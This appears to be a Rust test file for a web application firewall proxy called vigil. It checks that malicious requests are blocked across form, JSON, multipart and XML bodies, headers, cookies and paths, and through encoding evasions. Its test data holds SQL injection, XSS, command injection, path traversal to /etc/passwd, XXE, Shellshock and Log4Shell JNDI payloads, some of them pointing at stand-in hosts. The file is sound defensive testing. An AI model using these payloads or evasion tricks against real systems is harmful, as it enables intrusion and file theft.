//! What gets inspected: every body type, every request part, and evasions through encodings.

use crate::harness::{send, send_bytes, try_send, Setup, Upstream, Vigil};

fn post(v: &Vigil, content_type: &str, body: &[u8]) -> u16 {
    let mut req = format!(
        "POST /submit HTTP/1.1\r\nHost: a\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend_from_slice(body);
    send_bytes(v.addr, &req).status
}

#[test]
fn every_body_type_is_inspected() {
    let up = Upstream::start();
    let v = Setup::new(up.addr).start();
    let form = "application/x-www-form-urlencoded";
    assert_eq!(post(&v, form, b"name=bob&comment=nice+shoes"), 200);
    assert_eq!(post(&v, form, b"name=bob&comment=1%27+or+1%3D1--"), 403);
    let json = "application/json";
    assert_eq!(
        post(
            &v,
            json,
            br#"{"user":{"name":"bob","tags":["a","b"]},"n":3}"#
        ),
        200
    );
    assert_eq!(
        post(
            &v,
            json,
            br#"{"user":{"name":"bob","tags":["a","<svg onload=alert(1)>"]}}"#
        ),
        403
    );
    assert_eq!(
        post(&v, json, br#"{"user":{"$where":"sleep(5000) || true"}}"#),
        403,
        "JSON keys are inspected too"
    );
    let mp = "multipart/form-data; boundary=----B0undary";
    let field = |name: &str, extra: &str, value: &str| {
        format!("------B0undary\r\nContent-Disposition: form-data; name=\"{name}\"{extra}\r\n\r\n{value}\r\n")
    };
    let ok = format!(
        "{}{}------B0undary--\r\n",
        field("title", "", "holiday"),
        field("photo", "; filename=\"beach.jpg\"", "\u{1}\u{2}binary")
    );
    assert_eq!(post(&v, mp, ok.as_bytes()), 200);
    let bad_value = format!(
        "{}------B0undary--\r\n",
        field("title", "", "; cat /etc/passwd")
    );
    assert_eq!(
        post(&v, mp, bad_value.as_bytes()),
        403,
        "multipart field values are inspected"
    );
    let bad_name = format!(
        "{}------B0undary--\r\n",
        field("f", "; filename=\"../../../../etc/passwd\"", "x")
    );
    assert_eq!(
        post(&v, mp, bad_name.as_bytes()),
        403,
        "multipart file names are inspected"
    );
    let xml = "application/xml";
    assert_eq!(post(&v, xml, b"<order><id>7</id></order>"), 200);
    assert_eq!(post(&v, xml, b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"), 403);
    assert_eq!(
        post(&v, "text/plain", b"${jndi:ldap://evil.example/a}"),
        403
    );
    assert_eq!(
        up.seen().len(),
        4,
        "only the clean bodies reached the upstream"
    );
}

#[test]
fn headers_cookies_and_path_are_inspected() {
    let up = Upstream::start();
    let v = Setup::new(up.addr).start();
    let get = |extra: &str, target: &str| {
        send(
            v.addr,
            &format!("GET {target} HTTP/1.1\r\nHost: a\r\n{extra}Connection: close\r\n\r\n"),
        )
        .status
    };
    assert_eq!(
        get(
            "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n",
            "/"
        ),
        403
    );
    assert_eq!(
        get("User-Agent: () { :; }; /bin/bash -c 'id'\r\n", "/"),
        403
    );
    assert_eq!(
        get("X-Api-Version: ${jndi:ldap://x.example/a}\r\n", "/"),
        403
    );
    assert_eq!(get("Cookie: session=abc; pref=' or 1=1--\r\n", "/"), 403);
    assert_eq!(get("", "/static/..%2f..%2f..%2fetc/passwd"), 403);
    assert_eq!(get("", "/.git/config"), 403);
    assert_eq!(get("", "/.env"), 403);
    assert_eq!(
        get(
            "Cookie: session=abc; theme=dark\r\nReferer: https://shop.example/?q=shoes\r\n",
            "/shop/shoes"
        ),
        200
    );
}

#[test]
fn evasions_are_decoded_before_matching() {
    let up = Upstream::start();
    let v = Setup::new(up.addr).start();
    let cases = [
        (
            "double percent-encoding",
            "/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        ),
        (
            "triple percent-encoding",
            "/s?f=%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fpasswd",
        ),
        (
            "mixed case",
            "/s?q=1%27%20UnIoN%20SeLeCt%20pAsSwOrD%20fRoM%20users",
        ),
        (
            "SQL comments",
            "/s?id=1%20UNION/**/SELECT/**/password/**/FROM/**/users",
        ),
        (
            "MySQL version comments",
            "/s?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%20password%20FROM%20users",
        ),
        (
            "%u encoding",
            "/s?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        ),
        (
            "HTML entities",
            "/s?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
        ),
        (
            "numeric entities without semicolons",
            "/s?q=%26%2360%26%23115cript%26%2362alert(1)",
        ),
        (
            "overlong UTF-8",
            "/s?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        ),
        ("backslashes", "/s?f=..%5c..%5c..%5cwindows%5cwin.ini"),
        ("null byte", "/s?f=../../../etc/passwd%00.jpg"),
        ("plus as space", "/s?q=1'+or+1=1--"),
        (
            "fullwidth",
            "/s?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
        ),
        (
            "tab and newline whitespace",
            "/s?q=1%27%09UNION%0ASELECT%0Dpassword%20FROM%20users",
        ),
    ];
    for (name, target) in cases {
        assert_eq!(v.get(target).status, 403, "{name}: {target}");
    }
    assert_eq!(up.count(), 0);
}

#[test]
fn bodies_over_the_limit_are_inspected_as_a_prefix_or_rejected() {
    let up = Upstream::start();
    // inspect_prefix: an attack in the first 1 KiB is caught, one beyond it is passed on.
    let v = Setup::new(up.addr)
        .extra("inspection:\n  body_limit: 1024\n")
        .start();
    let mut early = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pad=".to_vec();
    early.extend(std::iter::repeat_n(b'a', 5000));
    assert_eq!(post(&v, "application/x-www-form-urlencoded", &early), 403);
    let mut late = b"pad=".to_vec();
    late.extend(std::iter::repeat_n(b'a', 5000));
    late.extend_from_slice(b"&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert_eq!(post(&v, "application/x-www-form-urlencoded", &late), 200);
    assert_eq!(
        up.last().body,
        late,
        "the uninspected rest still reaches the upstream intact"
    );
    let d = v.decisions(2);
    assert!(
        d[1]["matches"]
            .as_array()
            .is_some_and(|m| m.iter().any(|m| m["id"] == "proto-body-over-limit")),
        "{}",
        d[1]
    );

    let v = Setup::new(up.addr)
        .extra("inspection:\n  body_limit: 1024\n  over_limit: reject\n")
        .start();
    let before = up.count();
    assert_eq!(post(&v, "application/x-www-form-urlencoded", &late), 413);
    assert_eq!(
        up.count(),
        before,
        "a rejected body never reaches the upstream"
    );
    assert_eq!(
        post(&v, "application/x-www-form-urlencoded", b"small=1"),
        200
    );
}

#[test]
fn malformed_requests_never_crash_the_proxy() {
    let up = Upstream::start();
    let v = Setup::new(up.addr).start();
    let nasty: [&[u8]; 8] = [
        b"GET /%%%%%%%%%%% HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
        b"GET /?a=%u12 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9\r\nConnection: close\r\n\r\n{\"a\":[1,",
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello",
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 12\r\nConnection: close\r\n\r\n--x\r\nbroken",
        b"GET / HTTP/1.1\r\nHost: a\r\nCookie: ;;;=;=\r\nUser-Agent: \xff\xfe\xfd\r\nConnection: close\r\n\r\n",
        b"GET /a?&&&==&=%&x HTTP/1.1\r\nHost: a\r\nAuthorization: Basic !!!notbase64\r\nConnection: close\r\n\r\n",
        b"GARBAGE\r\n\r\n",
    ];
    for raw in nasty {
        // Pingora may answer 400 or just close on what it cannot parse; either is fine, a
        // crash or a 5xx from vigil itself is not.
        if let Some(r) = try_send(v.addr, raw) {
            assert!(
                r.status < 500,
                "{} for {:?}",
                r.status,
                String::from_utf8_lossy(raw)
            );
        }
    }
    assert_eq!(v.get("/still-alive").status, 200);
}
